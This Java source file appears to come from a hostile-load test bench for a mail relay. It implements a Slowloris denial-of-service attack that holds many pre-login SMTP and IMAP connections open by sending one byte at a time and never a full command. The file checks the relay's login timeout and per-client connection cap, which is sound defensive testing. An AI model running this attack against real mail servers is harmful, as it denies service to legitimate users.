package chatmail.bench.hostile;

import java.net.InetAddress;
import java.net.SocketTimeoutException;
import java.util.List;

/**
 * Slowloris before login (issue 11: per-read timeouts let a byte a minute hold a slot forever):
 * from a few addresses, 21 connections per address and service each read the greeting and
 * then send one byte every {@code byteIntervalMillis}, never a whole command. The 21st of an
 * address is over the unauthenticated allowance; the others stay until the relay closes them,
 * and come back at once.
 */
final class SlowlorisAttack extends Attack {
    private final HostileTarget target;
    private final List<InetAddress> sources;
    private final int perAddress;
    private final int byteIntervalMillis;

    SlowlorisAttack(HostileTarget target, List<InetAddress> sources, int perAddress, int byteIntervalMillis) {
        this.target = target;
        this.sources = sources;
        this.perAddress = perAddress;
        this.byteIntervalMillis = byteIntervalMillis;
    }

    @Override
    String name() {
        return "Slowloris before login";
    }

    @Override
    void start() {
        for (Service service : Service.preLogin(target)) {
            for (InetAddress source : sources) {
                for (int i = 0; i < perAddress; i++) {
                    loop("slowloris-" + service.port() + "-" + source.getHostAddress() + "-" + i, 1000,
                            () -> hold(service, source));
                }
            }
        }
    }

    private void hold(Service service, InetAddress source) throws Exception {
        AttackSocket s = held(service.implicitTls()
                ? AttackSocket.tls(target.tls(), source, target.host(), service.port(), byteIntervalMillis)
                : AttackSocket.plain(source, target.host(), service.port(), byteIntervalMillis));
        try {
            String greeting = s.line();
            if (greeting == null || greeting.startsWith("421") || greeting.startsWith("* BYE")) {
                tally.reply(greeting);
                tally.count(service.name() + ": refused at connect");
                return;
            }
            tally.count(service.name() + ": connections held");
            String last = null;
            while (running) {
                String line;
                try {
                    line = s.line();
                } catch (SocketTimeoutException e) {
                    s.write("x");
                    tally.count("bytes sent, one every " + byteIntervalMillis / 1000 + " s");
                    continue;
                }
                if (line == null) {
                    break;
                }
                last = line;
                tally.reply(line);
            }
            if (running) {
                tally.seconds(service.name() + (last == null ? " closed silently after"
                        : " closed after " + last.substring(0, Math.min(9, last.length())) + "... after"), s.ageSeconds());
            }
        } finally {
            release(s);
        }
    }

    @Override
    Row row() {
        List<String> results = new java.util.ArrayList<>(counterLines());
        for (Service service : Service.preLogin(target)) {
            for (String prefix : List.of(" closed silently after", " closed after 421 4.7.0... after", " closed after * BYE Lo... after")) {
                String d = tally.durations(service.name() + prefix);
                if (!d.isEmpty()) {
                    results.add(d);
                }
            }
        }
        return new Row(name() + ": " + sources.size() + " addresses × " + perAddress + " connections on each of 25, 587, 465, 143, 993, "
                + "one byte every " + byteIntervalMillis / 1000 + " s after the greeting, never a whole command",
                "SEC-3: login_timeout = 60s from connect (absolute; a watchdog closes what the session does not); "
                        + "max_unauthenticated_connections_per_client = 20",
                tally.replies(), results);
    }
}
